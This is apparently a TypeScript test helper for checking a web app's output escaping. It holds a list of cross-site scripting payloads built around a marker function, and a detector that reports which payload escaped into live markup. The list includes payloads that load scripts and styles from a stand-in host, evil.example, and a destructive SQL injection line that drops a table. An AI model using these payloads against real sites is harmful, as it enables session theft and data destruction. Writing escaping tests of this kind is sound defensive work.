/** Ways out of a text, of an attribute, of an address, of a script element, of a comment, of a template. "thxss" marks what got out. */
export const SCRIPTS: readonly string[] = [
  '<script>thxss()</script>',
  '<ScRiPt>thxss()</sCrIpT>',
  '</script><script>thxss()</script>',
  '<script src=//evil.example/thxss.js></script>',
  '<img src=x onerror=thxss()>',
  '"><img src=x onerror=thxss()>',
  "'><img src=x onerror=thxss()>",
  '<img src=x onerror="thxss()"//',
  '<svg/onload=thxss()>',
  '<svg><script>thxss()</script></svg>',
  '<svg><animate onbegin=thxss() attributeName=x>',
  '<math><mtext></p><img src onerror=thxss()>',
  '<body onload=thxss()>',
  '<iframe srcdoc="<script>thxss()</script>">',
  '<iframe src=javascript:thxss()>',
  '<object data=javascript:thxss()>',
  '<embed src=javascript:thxss()>',
  '<a href=javascript:thxss()>thxss</a>',
  '<a href="java\tscript:thxss()">thxss</a>',
  '<form action=javascript:thxss()><button>thxss',
  '<button formaction=javascript:thxss()>thxss',
  '<input autofocus onfocus=thxss()>',
  '<details open ontoggle=thxss()>',
  '<video><source onerror=thxss()>',
  '<audio src=x onerror=thxss()>',
  '<marquee onstart=thxss()>',
  '<meta http-equiv=refresh content="0;url=javascript:thxss()">',
  '<base href=//evil.example/thxss/>',
  '<link rel=stylesheet href=//evil.example/thxss.css>',
  '<style>@import "//evil.example/thxss.css"</style>',
  '<template><script>thxss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=thxss()>">',
  '<textarea></textarea><img src=x onerror=thxss()>',
  '</textarea><script>thxss()</script>',
  '</title><script>thxss()</script>',
  '</style><script>thxss()</script>',
  '<!--<script>thxss()//-->',
  '--><script>thxss()</script>',
  ']]><thxss/>',
  '" onmouseover="thxss()" x="',
  "' onmouseover='thxss()' x='",
  '" autofocus onfocus="thxss()" x="',
  '`onmouseover=thxss()',
  '&lt;script&gt;thxss()&lt;/script&gt;',
  '&#60;script&#62;thxss()&#60;/script&#62;',
  '\\u003cscript\\u003ethxss()\\u003c/script\\u003e',
  'javascript:thxss()',
  'data:text/html,<script>thxss()</script>',
  '{{constructor.constructor("thxss()")()}}',
  '$\u007bthxss()}<%= thxss %>',
  '\u2028thxss()\u2029\u202ethxss',
  '＜script＞thxss()＜/script＞',
  "'; drop table accounts_person; -- thxss",
];

/** A tag with its quoted attributes, in which a ">" is text. */
const TAG = /<[a-z!/](?:"[^"]*"|'[^']*'|[^'">])*>?/gi;
/** Elements that our pages never have. */
const FOREIGN = /^<\/?(?:style|base|iframe|object|embed|marquee|video|audio|source|template|noscript|math|animate|thxss|body onload)\b/i;

/** The first place where a payload is more than text, or null. */
export function escapes(body: string, contentType: string): string | null {
  // JSON and plain text are never drawn: nosniff says so to the browser.
  if (!/html|xml|svg/.test(contentType)) return null;
  for (const [tag] of body.matchAll(TAG)) {
    if (FOREIGN.test(tag) || (/thxss/i.test(tag) && !isQuiet(tag))) return tag.slice(0, 200);
  }
  return /<script(?![^>]*(?:src=|ld\+json))[^>]*>[^<]*thxss/i.exec(body)?.[0] ?? null;
}

/** A tag of ours that only carries the text in quoted attributes: what is between the quotes is text, unless it is an address that runs. */
function isQuiet(tag: string): boolean {
  const bare = tag.replace(/="[^"]*"/g, '');
  return (
    !/thxss/i.test(bare) && !/\son[a-z]+\b/i.test(bare) && !/(?:href|src|action|formaction)="\s*(?:javascript|data|vbscript):/i.test(tag)
  );
}
